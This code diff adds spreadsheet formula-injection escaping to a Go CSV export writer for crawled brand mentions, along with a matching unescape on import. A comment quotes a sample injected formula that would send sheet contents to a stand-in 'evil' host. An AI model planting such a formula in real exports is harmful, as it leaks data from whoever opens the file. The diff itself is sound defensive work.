@@ -65,8 +65,9 @@ func (w *Writer) Write(m *model.Mention) error {
 			return err
 		}
 	}
-	w.row = append(w.row[:0], m.ID, m.Source, strings.Join(m.Brands, ";"), m.URL, m.Author, m.Title,
-		m.Text, m.Lang, formatRating(m.Rating), m.PublishedAt.UTC().Format(time.RFC3339Nano))
+	w.row = append(w.row[:0], escapeCell(m.ID), escapeCell(m.Source), escapeCell(strings.Join(m.Brands, ";")),
+		escapeCell(m.URL), escapeCell(m.Author), escapeCell(m.Title), escapeCell(m.Text), escapeCell(m.Lang),
+		formatRating(m.Rating), m.PublishedAt.UTC().Format(time.RFC3339Nano))
 	w.row = append(w.row, analysisColumns(m.Analysis)...)
 	return w.csv.Write(w.row)
 }
@@ -108,4 +109,27 @@ func analysisColumns(a *model.Analysis) []string {
 	return []string{score, string(a.Label), strconv.FormatFloat(a.Confidence, 'f', 3, 64),
 		strings.Join(aspects, ";"), strconv.FormatBool(a.Complaint), strconv.Itoa(a.Urgency),
 		strconv.FormatBool(a.RatingMismatch), a.Version}
+}
+
+// formulaStart is what makes a spreadsheet read a cell as a formula.
+const formulaStart = "=+-@\t\r"
+
+// escapeCell keeps crawled text from running as a formula when an analyst
+// opens a CSV export in Excel or LibreOffice (a review reading
+// =HYPERLINK("http://evil/?"&A2, ...) would leak the sheet): a text cell that
+// starts like one gets a leading apostrophe, which spreadsheets hide and
+// which import takes off again (unescapeCell). Numeric columns are not text.
+func escapeCell(s string) string {
+	if s != "" && strings.IndexByte(formulaStart, s[0]) >= 0 {
+		return "'" + s
+	}
+	return s
+}
+
+// unescapeCell undoes escapeCell: an apostrophe before a formula character.
+func unescapeCell(s string) string {
+	if len(s) > 1 && s[0] == '\'' && strings.IndexByte(formulaStart, s[1]) >= 0 {
+		return s[1:]
+	}
+	return s
 }
